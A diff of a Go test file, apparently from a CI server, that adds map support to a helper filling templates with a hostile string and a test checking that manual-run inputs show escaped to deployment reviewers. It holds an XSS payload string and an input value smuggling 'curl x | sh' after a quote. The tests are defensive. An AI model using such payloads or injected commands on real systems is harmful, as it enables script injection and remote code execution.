@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/forgeci/forgeci/shared/store"
 )
 
 // evil is what a hostile project, job, artifact, branch or user name could
@@ -12,8 +14,8 @@ import (
 // of a URL.
 const evil = `x"'><script>alert(1)</script><img src=y onerror=alert(2)>javascript:alert(3)`
 
-// fill sets every string reachable from v (fields, slices of one element,
-// pointers) to evil, and every bool to on, so that each branch that shows a
+// fill sets every string reachable from v (fields, slices and maps of one
+// element, pointers) to evil, and every bool to on, so that each branch that shows a
 // value is taken.
 func fill(v reflect.Value, on bool) {
 	switch v.Kind() {
@@ -36,6 +38,17 @@ func fill(v reflect.Value, on bool) {
 		p := reflect.New(v.Type().Elem())
 		fill(p.Elem(), on)
 		v.Set(p)
+	case reflect.Map:
+		m := reflect.MakeMap(v.Type())
+		key, val := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
+		fill(key, on)
+		if val.Kind() == reflect.Interface {
+			val.Set(reflect.ValueOf(evil))
+		} else {
+			fill(val, on)
+		}
+		m.SetMapIndex(key, val)
+		v.Set(m)
 	case reflect.Slice:
 		s := reflect.MakeSlice(v.Type(), 1, 1)
 		fill(s.Index(0), on)
@@ -95,5 +108,30 @@ func TestHrefRefusesSchemes(t *testing.T) {
 		if o.String() != want {
 			t.Errorf("href(%q) = %q, want %q", in, o.String(), want)
 		}
+	}
+}
+
+// TestDeploymentReviewShowsInputs: a manual run's inputs reach its steps'
+// scripts, so the reviewer of its deployment sees them, as JSON (a
+// newline or a quote in a value is seen, not hidden), and so does the run
+// page.
+func TestDeploymentReviewShowsInputs(t *testing.T) {
+	inputs := map[string]any{"target": "prod\"; curl x | sh\n#", "dry": false}
+	p := jobPage{Run: store.Run{Inputs: inputs}, CanWrite: true}
+	p.Job.Environment, p.Job.DeployState, p.Job.State = "production", "waiting", "PENDING"
+	var o out
+	if err := writePage(&o, "job", p); err != nil {
+		t.Fatal(err)
+	}
+	want := `<span id="deploy-inputs">dry <code>false</code>, target <code>&#34;prod\&#34;; curl x | sh\n#&#34;</code></span>`
+	if got := o.String(); !strings.Contains(got, want) {
+		t.Fatalf("the review does not show the inputs %s:\n%s", want, got)
+	}
+	o = out{}
+	if err := writePage(&o, "run", runPage{Run: store.Run{Inputs: inputs}}); err != nil {
+		t.Fatal(err)
+	}
+	if got := o.String(); !strings.Contains(got, `<dd id="run-inputs">dry <code>false</code>, target`) {
+		t.Fatalf("the run page does not show the inputs:\n%s", got)
 	}
 }
